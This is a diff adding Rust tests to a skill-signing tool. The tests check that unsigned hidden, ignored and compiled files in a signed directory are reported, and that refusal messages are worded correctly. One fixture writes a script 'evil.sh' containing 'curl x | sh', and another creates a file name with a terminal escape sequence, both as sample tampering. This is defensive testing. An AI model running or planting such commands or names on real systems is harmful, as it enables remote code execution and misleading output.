@@ -566,6 +566,56 @@ fn a_skill_directory_signed_by_haiku_verifies_with_its_signer() {
         &[],
     );
     assert_eq!(run.code, Some(0), "{}", run.stderr);
+    // ... but what the signature does not cover is named, not passed over in silence: an
+    // ignored script is as runnable as a signed one.
+    assert_eq!(
+        run.stderr,
+        format!(
+            "OK: alpha (identity {ALPHA}, issuer {GITHUB}, logged at 2026-03-02T09:14:30Z; 3 files \
+             by haiku.skills' directory digest)\n\
+             note: 5 files under alpha are not covered by the signature (haiku.skills leaves out \
+             hidden, ignored, cache and compiled files, so anyone may have added or changed \
+             them): .env, .gitignore, debug.log, scripts/__pycache__/run.cpython-311.pyc, \
+             scripts/run.pyc\n{HAIKU_NOTE}"
+        )
+    );
+    // An ignored script, a hidden directory, a name with a control character.
+    let run = verify_alpha(
+        |dir| {
+            std::fs::write(dir.join(".gitignore"), "evil.sh\n").unwrap();
+            std::fs::write(dir.join("scripts/evil.sh"), "curl x | sh\n").unwrap();
+            std::fs::create_dir_all(dir.join(".hidden/deep")).unwrap();
+            std::fs::write(dir.join(".hidden/deep/x.py"), "x").unwrap();
+            std::fs::write(dir.join(".\u{1b}[2Jx"), "x").unwrap();
+            for i in 0..10 {
+                std::fs::write(dir.join(format!(".n{i}")), "x").unwrap();
+            }
+        },
+        &[
+            "--certificate-identity",
+            ALPHA,
+            "--certificate-oidc-issuer",
+            GITHUB,
+            "--format",
+            "json",
+        ],
+    );
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    assert!(
+        run.stderr.contains(
+            "note: 14 files under alpha are not covered by the signature (haiku.skills leaves \
+             out hidden, ignored, cache and compiled files, so anyone may have added or changed \
+             them): .\\u{1b}[2Jx, .gitignore, .hidden/deep/x.py, .n0, .n1, .n2, .n3, .n4, .n5, \
+             .n6, and 4 more\n"
+        ),
+        "{}",
+        run.stderr
+    );
+    let doc: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
+    let uncovered = doc["not_covered"].as_array().unwrap();
+    assert_eq!(uncovered.len(), 14);
+    assert!(uncovered.contains(&serde_json::json!("scripts/evil.sh")));
+    assert!(uncovered.contains(&serde_json::json!(".\u{1b}[2Jx")));
 }
 
 #[test]
@@ -773,7 +823,9 @@ fn a_keyless_signed_skill_archive_unpacks_after_verifying() {
         run.stderr,
         format!(
             "Unpacked `gamma` (2 files and the manifest) into {}\nnote: the signature was \
-             checked, not who signed it (--insecure-ignore-identity)\n",
+             checked, not who signed it (--insecure-ignore-identity): pass \
+             --certificate-identity ID --certificate-oidc-issuer URL to verify who signed it \
+             first\n",
             other.join("gamma").display()
         )
     );
@@ -849,5 +901,43 @@ fn a_changed_byte_in_a_keyless_signed_skill_archive_fails() {
             run.stderr
         );
         assert!(!dest.join("gamma").exists(), "byte {at}");
+    }
+}
+
+#[test]
+fn what_has_only_a_signature_does_not_offer_an_integrity_check() {
+    // A haiku-signed directory or a bare digest has nothing to check without its signature:
+    // the refusal must not suggest --insecure-skip-signature, least of all when it was given.
+    let digest = format!("sha256:{}", "ab".repeat(32));
+    let bundle = data().join("file/artifact.txt.sigstore.json");
+    for skip in [false, true] {
+        let mut extra = vec![];
+        if skip {
+            extra.push("--insecure-skip-signature");
+        }
+        let run = verify_alpha(|_| {}, &[&["--format", "text"][..], &extra].concat());
+        let mut args = vec!["verify", &digest, "--bundle", bundle.to_str().unwrap()];
+        args.extend_from_slice(&extra);
+        let digest_run = skillc(&data(), &args);
+        for run in [run, digest_run] {
+            assert_eq!(run.code, Some(2), "{}", run.stderr);
+            assert!(
+                run.stderr.starts_with("error: verify needs who signed: "),
+                "{}",
+                run.stderr
+            );
+            assert!(
+                !run.stderr
+                    .contains("--insecure-skip-signature to check integrity only"),
+                "{}",
+                run.stderr
+            );
+            assert!(
+                run.stderr
+                    .contains("has nothing to check but its signature"),
+                "{}",
+                run.stderr
+            );
+        }
     }
 }
